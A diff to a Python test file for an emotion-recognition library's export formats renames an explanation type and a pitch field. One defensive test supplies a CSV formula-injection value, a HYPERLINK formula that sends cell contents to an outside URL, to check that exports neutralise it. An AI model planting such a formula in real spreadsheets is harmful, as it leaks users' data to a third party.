@@ -15,7 +15,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from praatio import textgrid
 
-from affetto import Explanation, Failure, ModelName, ParameterError, Recognition, Recognizer, Segment
+from affetto import AcousticMeasures, Failure, ModelName, ParameterError, Recognition, Recognizer, Segment
 from affetto.cli.output import OutputFormat
 from affetto.exports import FORMATS, find_format, write
 from affetto.exports.text import caption, emotion_name
@@ -143,7 +143,7 @@ def test_tables_are_read_back(recognition: Recognition) -> None:
 
 def test_no_cell_of_csv_is_a_formula(dialogue: Recognition, tmp_path: Path) -> None:
     name = '=HYPERLINK("http://example.org/?"&A2,"call")'
-    quiet = dataclasses.replace(dialogue.segments[0], emotion="-1", explanation=Explanation(loudness_dbfs=-20.5))
+    quiet = dataclasses.replace(dialogue.segments[0], emotion="-1", acoustics=AcousticMeasures(loudness_dbfs=-20.5))
     hostile = dataclasses.replace(dialogue, source=name, segments=(quiet,))
     write([hostile, Failure("+1.wav", "+1.wav is empty")], tmp_path / "a.csv", labels=("@label",))
     first, second = csv.DictReader((tmp_path / "a.csv").open(encoding="utf-8", newline=""))
@@ -295,19 +295,19 @@ def test_a_real_recording_in_every_format(tmp_path: Path) -> None:
 
 
 def test_tables_hold_explanations_where_there_are_any(
-    explained: Recognition, dialogue: Recognition, tmp_path: Path
+    acoustics: Recognition, dialogue: Recognition, tmp_path: Path
 ) -> None:
-    outcomes: list[Recognition | Failure] = [Failure("a.wav", "broken"), explained]
+    outcomes: list[Recognition | Failure] = [Failure("a.wav", "broken"), acoustics]
     for name in ("json", "jsonl", "csv"):
         write(outcomes, tmp_path / f"a.{name}")
     _, found = json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))
-    first, second, third = (segment["explanation"] for segment in found["segments"][:3])
-    assert (first["pitch_hz"], second["pitch_hz"], third) == (210.0, None, None)
+    first, second, third = (segment["acoustics"] for segment in found["segments"][:3])
+    assert (first["f0_hz"], second["f0_hz"], third) == (210.0, None, None)
     assert (len(first["sentences"]), second["sentences"]) == (3, [])
     lines = (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()
-    assert [json.loads(line).get("explanation") for line in lines[1:4]] == [first, second, third]
+    assert [json.loads(line).get("acoustics") for line in lines[1:4]] == [first, second, third]
     rows = list(csv.DictReader((tmp_path / "a.csv").open(encoding="utf-8", newline="")))
-    assert [row["pitch_hz"] for row in rows[:3]] == ["", "210.0", ""]
+    assert [row["f0_hz"] for row in rows[:3]] == ["", "210.0", ""]
     assert "sentences" not in rows[0]
     write([Failure("a.wav", "broken"), dialogue], tmp_path / "plain.csv")
-    assert "pitch_hz" not in (tmp_path / "plain.csv").read_text(encoding="utf-8")
+    assert "f0_hz" not in (tmp_path / "plain.csv").read_text(encoding="utf-8")
